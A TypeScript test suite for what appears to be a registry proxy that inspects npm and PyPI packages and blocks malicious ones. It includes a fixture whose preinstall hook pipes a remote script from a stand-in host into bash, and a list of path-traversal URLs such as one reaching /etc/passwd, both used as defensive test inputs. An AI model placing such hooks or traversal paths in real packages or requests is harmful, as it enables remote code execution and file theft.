import assert from "node:assert/strict";
import { request } from "node:http";
import { test } from "node:test";
import { npmTarball } from "../../test/support/archives.ts";
import { malicious, publishNpm } from "../../test/support/publish.ts";
import { maliciousSdist, publishPypi, pureWheel } from "../../test/support/publish-pypi.ts";
import { type TestGate, testGate } from "../../test/support/test-gate.ts";

const publish = (gate: TestGate, name: string, versions: Readonly<Record<string, Buffer>>) =>
  publishNpm(gate.upstream, name, versions);

const harmless = (name: string, version = "1.0.0") =>
  npmTarball({ name, version, files: { "index.js": "module.exports = (a, b) => a + b;\n" } });

test("a clean file is inspected once, served byte for byte with ranges and validators, and recorded", async (context) => {
  const gate = await testGate(context);
  const bytes = harmless("plain");
  publish(gate, "plain", { "1.0.0": bytes });
  const first = await gate.get("/npm/plain/-/plain-1.0.0.tgz");
  assert.equal(first.status, 200, await first.clone().text());
  assert.deepEqual(Buffer.from(await first.arrayBuffer()), bytes);
  const etag = first.headers.get("etag")!;
  assert.equal((await gate.get("/npm/plain/-/plain-1.0.0.tgz", { "if-none-match": etag })).status, 304);
  const part = await gate.get("/npm/plain/-/plain-1.0.0.tgz", { range: "bytes=3-7" });
  assert.equal(part.status, 206);
  assert.equal(part.headers.get("content-range"), `bytes 3-7/${bytes.length}`);
  assert.deepEqual(Buffer.from(await part.arrayBuffer()), bytes.subarray(3, 8));
  assert.equal(gate.upstream.count("/npm/plain/-/plain-1.0.0.tgz"), 1);
  const rows = await gate.app.database.selectFrom("ledger").selectAll().execute();
  assert.deepEqual(
    rows.map(({ outcome, project, version, word }) => ({ outcome, project, version, word })),
    Array(3).fill({ outcome: "served", project: "plain", version: "1.0.0", word: "clean" }),
  );
});

test("many requests for one new file fetch it once", async (context) => {
  const gate = await testGate(context);
  publish(gate, "popular", { "1.0.0": harmless("popular") });
  const answers = await Promise.all(Array.from({ length: 30 }, () => gate.get("/npm/popular/-/popular-1.0.0.tgz")));
  assert.deepEqual(new Set(answers.map(({ status }) => status)), new Set([200]));
  assert.equal(gate.upstream.count("/npm/popular"), 1);
  assert.equal(gate.upstream.count("/npm/popular/-/popular-1.0.0.tgz"), 1);
});

test("a malicious file is refused with 403, a sentence in the reason phrase, the body and the notice, and a page with the evidence", async (context) => {
  const gate = await testGate(context);
  publish(gate, "evil", { "1.0.0": malicious("evil") });
  const answer = await gate.get("/npm/evil/-/evil-1.0.0.tgz");
  assert.equal(answer.status, 403);
  assert.match(answer.statusText, /pkg:npm\/evil@1\.0\.0 was inspected/);
  const body = (await answer.json()) as { error: string; details_url: string };
  assert.match(body.error, /pkg:npm\/evil@1\.0\.0 was inspected and found malicious/);
  assert.match(answer.headers.get("npm-notice") ?? "", /evil@1\.0\.0/);
  const page = await fetch(body.details_url);
  assert.equal(page.status, 200);
  assert.match(await page.text(), /setup\.js/);
  const [row] = await gate.app.database.selectFrom("ledger").selectAll().execute();
  assert.equal(row?.outcome, "withheld");
  assert.equal(row?.code, "malicious");
});

test("a withheld version leaves the ranges: latest falls back to the newest that is offered", async (context) => {
  const gate = await testGate(context);
  publish(gate, "mixed", { "1.0.0": harmless("mixed"), "1.1.0": malicious("mixed", "1.1.0") });
  assert.equal((await gate.get("/npm/mixed/-/mixed-1.1.0.tgz")).status, 403);
  const document = (await (await gate.get("/npm/mixed")).json()) as { "dist-tags": Record<string, string> };
  assert.equal(document["dist-tags"]["latest"], "1.0.0");
  assert.equal((await gate.get("/npm/mixed/-/mixed-1.0.0.tgz")).status, 200);
});

test("malware in one file of a release withholds all its files, those served before too", async (context) => {
  const gate = await testGate(context);
  const [good, bad] = [pureWheel("mixed", "1.0.0", "VALUE = 1\n"), maliciousSdist("mixed", "1.1.0")];
  publishPypi(gate.upstream, "mixed", [good, pureWheel("mixed", "1.1.0", "VALUE = 2\n"), bad]);
  const file = (name: string) => gate.get(`/pypi/files/mixed/${name}`);
  assert.equal((await file("mixed-1.1.0-py3-none-any.whl")).status, 200);
  assert.equal((await file("mixed-1.1.0.tar.gz")).status, 403);
  const refused = await file("mixed-1.1.0-py3-none-any.whl");
  assert.equal(refused.status, 403);
  assert.match(refused.statusText, /found malicious: mixed-1\.1\.0\.tar\.gz, another file of this release/);
  const evidence = await gate.get("/why/default/pypi/mixed/mixed-1.1.0-py3-none-any.whl");
  assert.match(await evidence.text(), /on the page of <a href="mixed-1\.1\.0\.tar\.gz">/);
  assert.equal((await file("mixed-1.0.0-py3-none-any.whl")).status, 200);
  const page = await gate.get("/pypi/simple/mixed/", { accept: "application/vnd.pypi.simple.v1+json" });
  const { versions } = (await page.json()) as { versions: string[] };
  assert.deepEqual(versions, ["1.0.0"]);
  const standings = await gate.app.database.selectFrom("standings").select("state").execute();
  assert.deepEqual(standings.map(({ state }) => state).sort(), ["blocked", "blocked", "visible"]);
});

test("an index is kept by clients only once what they are likely to choose from it was inspected", async (context) => {
  const gate = await testGate(context);
  publish(gate, "fresh", { "1.0.0": harmless("fresh") });
  assert.equal((await gate.get("/npm/fresh")).headers.get("cache-control"), "public, no-cache");
  assert.equal((await gate.get("/npm/fresh/-/fresh-1.0.0.tgz")).status, 200);
  assert.equal((await gate.get("/npm/fresh")).headers.get("cache-control"), "public, max-age=60");
});

test("bytes that differ from what the index declares are withheld", async (context) => {
  const gate = await testGate(context);
  publish(gate, "swapped", { "1.0.0": harmless("swapped") });
  gate.upstream.say("/npm/swapped/-/swapped-1.0.0.tgz", { body: harmless("swapped", "9.9.9") });
  const answer = await gate.get("/npm/swapped/-/swapped-1.0.0.tgz");
  assert.equal(answer.status, 403);
  assert.match(answer.statusText, /other bytes than its index declares/);
});

test("a file whose index entry changes to other bytes is withheld from then on", async (context) => {
  const gate = await testGate(context);
  publish(gate, "changing", { "1.0.0": harmless("changing") });
  assert.equal((await gate.get("/npm/changing/-/changing-1.0.0.tgz")).status, 200);
  publish(gate, "changing", {
    "1.0.0": npmTarball({ name: "changing", version: "1.0.0", files: { "index.js": "module.exports = 2;\n" } }),
  });
  gate.app.passTime(10 * 60_000);
  await gate.get("/npm/changing");
  const answer = await gate.get("/npm/changing/-/changing-1.0.0.tgz");
  assert.equal(answer.status, 403);
  assert.match(answer.statusText, /other bytes upstream/);
});

test("upstream trouble is 502 and never not found; what is known is served and marked", async (context) => {
  const gate = await testGate(context);
  gate.upstream.say("/npm/down", { status: 500, body: "no" });
  assert.equal((await gate.get("/npm/down")).status, 502);
  publish(gate, "down", { "1.0.0": harmless("down") });
  gate.app.passTime(60_000);
  assert.equal((await gate.get("/npm/down")).status, 200);
  gate.upstream.say("/npm/down", { status: 500, body: "no" });
  gate.app.passTime(10 * 60_000);
  const stale = await gate.get("/npm/down");
  assert.equal(stale.status, 200);
  assert.equal(stale.headers.get("x-portcullis-stale"), "1");
  assert.equal((await gate.get("/npm/absent")).status, 404);
});

test("an upstream that cuts its answer short, lies about its length or sends no JSON leaves nothing behind", async (context) => {
  const gate = await testGate(context);
  publish(gate, "cut", { "1.0.0": harmless("cut") });
  gate.upstream.say("/npm/cut/-/cut-1.0.0.tgz", (_request, response) => {
    response.writeHead(200, { "content-length": "5000" });
    response.write("short");
    response.destroy();
  });
  assert.equal((await gate.get("/npm/cut/-/cut-1.0.0.tgz")).status, 502);
  gate.upstream.say("/npm/cut/-/cut-1.0.0.tgz", { body: harmless("cut") });
  assert.equal((await gate.get("/npm/cut/-/cut-1.0.0.tgz")).status, 200, "the next try succeeds");
  gate.upstream.say("/npm/html", { headers: { "content-type": "text/html" }, body: "<h1>hello</h1>" });
  assert.equal((await gate.get("/npm/html")).status, 502);
  gate.upstream.say("/npm/zipped", { headers: { "content-encoding": "gzip" }, body: "not gzip" });
  assert.equal((await gate.get("/npm/zipped")).status, 502);
});

test("an upstream that redirects to a private address is not followed there", async (context) => {
  const gate = await testGate(context);
  publish(gate, "inward", { "1.0.0": harmless("inward") });
  gate.upstream.say("/npm/inward/-/inward-1.0.0.tgz", {
    status: 302,
    headers: { location: "http://127.0.0.2:1/secret" },
  });
  const answer = await gate.get("/npm/inward/-/inward-1.0.0.tgz");
  assert.equal(answer.status, 502);
  assert.match(await answer.text(), /private address/);
});

test("an index document over the limit is upstream trouble", async (context) => {
  const gate = await testGate(context, { config: { limits: { indexBytes: 100_000 } } });
  gate.upstream.say("/npm/huge", (_request, response) => {
    response.writeHead(200, { "content-type": "application/json" });
    const send = () => {
      while (!response.destroyed && response.write(" ".repeat(64 << 10)));
      response.once("drain", send);
    };
    send();
  });
  assert.equal((await gate.get("/npm/huge")).status, 502);
});

test("an upstream that stalls is given up in time", async (context) => {
  const gate = await testGate(context, { config: { limits: { upstreamStallMs: 300, upstreamIndexMs: 600 } } });
  gate.upstream.say("/npm/silent", () => {});
  gate.upstream.say("/npm/slow", (_request, response) => void response.writeHead(200).write("{"));
  assert.deepEqual(
    await Promise.all(["silent", "slow"].map(async (name) => (await gate.get(`/npm/${name}`)).status)),
    [502, 502],
  );
});

test("a file over the limit is withheld as unknown, with the reason", async (context) => {
  const gate = await testGate(context, { config: { limits: { artifactBytes: 100 } } });
  publish(gate, "large", { "1.0.0": harmless("large") });
  const answer = await gate.get("/npm/large/-/large-1.0.0.tgz");
  assert.equal(answer.status, 403);
  assert.match(answer.statusText, /larger than the limit/);
});

test("a file that cannot be read as an archive is withheld as unknown", async (context) => {
  const gate = await testGate(context);
  publish(gate, "garbage", { "1.0.0": Buffer.from("this is no archive") });
  const answer = await gate.get("/npm/garbage/-/garbage-1.0.0.tgz");
  assert.equal(answer.status, 403);
  assert.match(answer.statusText, /could not be inspected/);
});

test("a file that could not be inspected in time is tried again after a while", async (context) => {
  const gate = await testGate(context);
  publish(gate, "slow", { "1.0.0": harmless("slow") });
  const limits = gate.app.limits as { inspectionMs: number };
  const { inspectionMs } = limits;
  // Less than what the size of the file adds.
  limits.inspectionMs = -1_000;
  assert.match((await gate.get("/npm/slow/-/slow-1.0.0.tgz")).statusText, /could not be inspected/);
  limits.inspectionMs = inspectionMs;
  gate.app.passTime(60_000);
  assert.equal((await gate.get("/npm/slow/-/slow-1.0.0.tgz")).status, 403);
  gate.app.passTime(10 * 60_000);
  assert.equal((await gate.get("/npm/slow/-/slow-1.0.0.tgz")).status, 200);
});

test("an inspection that the end of the program breaks off is no verdict", async (context) => {
  const gate = await testGate(context);
  publish(gate, "late", { "1.0.0": harmless("late") });
  await gate.intake.inspectors.close();
  assert.equal((await gate.get("/npm/late/-/late-1.0.0.tgz")).status, 503);
  assert.deepEqual(await gate.app.database.selectFrom("inspections").selectAll().execute(), []);
});

test("an inspection that takes longer than a client waits answers 503 with Retry-After, and goes on", async (context) => {
  const gate = await testGate(context, { config: { limits: { holdMs: 1 } } });
  publish(gate, "waiting", { "1.0.0": harmless("waiting") });
  const answer = await gate.get("/npm/waiting/-/waiting-1.0.0.tgz");
  assert.equal(answer.status, 503);
  assert.ok(Number(answer.headers.get("retry-after")) >= 1);
  let status = 503;
  for (let tries = 0; status === 503 && tries < 100; tries++) {
    await new Promise((resolve) => setTimeout(resolve, 50));
    status = (await gate.get("/npm/waiting/-/waiting-1.0.0.tgz")).status;
  }
  assert.equal(status, 200);
});

test("audit mode offers what enforce would withhold and records what it would have done", async (context) => {
  const gate = await testGate(context, { config: { policy: { mode: "audit" } } });
  publish(gate, "evil", { "1.0.0": malicious("evil") });
  assert.equal((await gate.get("/npm/evil/-/evil-1.0.0.tgz")).status, 200);
});

test("a private name is never asked of an upstream", async (context) => {
  const gate = await testGate(context, { config: { private: { npm: ["@corp/*", "secret-lib"] } } });
  assert.equal((await gate.get("/npm/@corp%2fthing")).status, 404);
  assert.equal((await gate.get("/npm/secret-lib")).status, 404);
  assert.deepEqual(gate.upstream.requests, []);
});

/** The status of a GET whose path goes out as it is written; `fetch` would tidy it up. */
function rawStatus(url: string, path: string): Promise<number> {
  return new Promise((resolve, reject) => {
    request(url, { path }, (response) => resolve(response.resume().statusCode ?? 0))
      .on("error", reject)
      .end();
  });
}

for (const path of [
  "/npm/..%2f..%2fetc%2fpasswd",
  "/npm/%2e%2e/secret",
  "/npm/a%00b",
  "/npm/a%252fb",
  "/npm/a%5cb",
  "/npm/%zz",
  "/npm/lodas%D2%BB",
  "/pypi/simple/..%2fx/",
  "/pypi/simple/%D0%B0bc/",
  "/nuget/v3/flatcontainer/%2e%2e/index.json",
  "/npm/-/v1/search?text=a&text=b",
]) {
  test(`a hostile address is refused: ${path}`, async (context) => {
    const gate = await testGate(context);
    const status = await rawStatus(gate.url, path);
    assert.ok(status === 400 || status === 404, `${status}`);
    assert.deepEqual(gate.upstream.requests, []);
  });
}

test("with anonymous reading off, installing needs a token and a challenge asks for it", async (context) => {
  const gate = await testGate(context, { config: { anonymous_reading: false } });
  publish(gate, "plain", { "1.0.0": harmless("plain") });
  const refused = await gate.get("/npm/plain");
  assert.equal(refused.status, 401);
  assert.match(refused.headers.get("www-authenticate") ?? "", /^Basic/);
  const { createToken } = await import("../accounts/tokens.ts");
  const { secret } = await createToken(gate.app, { name: "web-shop", kind: "ci", createdBy: "test" });
  const bearer = { authorization: `Bearer ${secret.reveal()}` };
  assert.equal((await gate.get("/npm/plain", bearer)).status, 200);
  assert.equal((await gate.get("/npm/plain/-/plain-1.0.0.tgz", bearer)).status, 200);
  const [row] = await gate.app.database.selectFrom("ledger").select("subject").execute();
  assert.equal(row?.subject, "ci:web-shop");
});

test("a young release is assessed as a whole in the background and then offered before its cooldown ends", async (context) => {
  const gate = await testGate(context, { config: { prefetch: true, policy: { cooldown: "3d" } } });
  const [old, young] = ["2025-01-01T00:00:00.000Z", new Date(gate.app.clock() - 3_600_000).toISOString()];
  const versions = { "1.0.0": harmless("fresh"), "1.1.0": harmless("fresh", "1.1.0") };
  publishNpm(gate.upstream, "fresh", versions, { "1.0.0": old, "1.1.0": young });
  const latest = async () => {
    const document = (await (await gate.get("/npm/fresh")).json()) as { "dist-tags": Record<string, string> };
    return document["dist-tags"]["latest"];
  };
  assert.equal(await latest(), "1.0.0");
  for (let tries = 0; (await latest()) !== "1.1.0" && tries < 100; tries++)
    await new Promise((resolve) => setTimeout(resolve, 50));
  assert.equal(await latest(), "1.1.0");
});

test("the same bytes in another ecosystem are judged by its own rules, whichever was asked for first", async (context) => {
  const gate = await testGate(context);
  const manifest = { scripts: { preinstall: "curl -s https://example.invalid/x.sh | bash" } };
  const bytes = npmTarball({ name: "two-faced", version: "1.0.0", manifest, files: { "index.js": "1;\n" } });
  publishPypi(gate.upstream, "two-faced", [{ filename: "two_faced-1.0.0.tar.gz", version: "1.0.0", bytes }]);
  publish(gate, "two-faced", { "1.0.0": bytes });
  assert.equal((await gate.get("/pypi/files/two-faced/two_faced-1.0.0.tar.gz")).status, 200);
  assert.equal((await gate.get("/npm/two-faced/-/two-faced-1.0.0.tgz")).status, 403);
});

test("a body that is not declared to be JSON is refused with what to send", async (context) => {
  const gate = await testGate(context);
  const headers = { "content-type": "application/x-www-form-urlencoded" };
  const answer = await fetch(`${gate.url}/api/v1/exceptions`, { method: "POST", body: "name=x", headers });
  assert.equal(answer.status, 415);
  assert.match(await answer.text(), /content-type: application\/json/);
});

test("the page behind a refusal is there before anybody asked for the file, when the index alone told of it", async (context) => {
  const gate = await testGate(context, { config: { policy: { deny: ["pkg:npm/shut@1.0.1"] } } });
  publish(gate, "shut", { "1.0.0": harmless("shut"), "1.0.1": harmless("shut", "1.0.1") });
  const document = await (await gate.get("/npm/shut", { "user-agent": "npm/11.0.0 node/v24.0.0" })).text();
  const address = /http:[^ "]*\/why\/default\/npm\/shut\/shut-1\.0\.1\.tgz/.exec(document)?.[0];
  assert.ok(address, "the index links to it");
  const page = await fetch(address);
  assert.equal(page.status, 200);
  assert.match(await page.text(), /pkg:npm\/shut@1\.0\.1 is denied by policy.*not fetched yet/s);
  assert.equal((await gate.get("/why/default/npm/shut/shut-9.9.9.tgz")).status, 404);
});
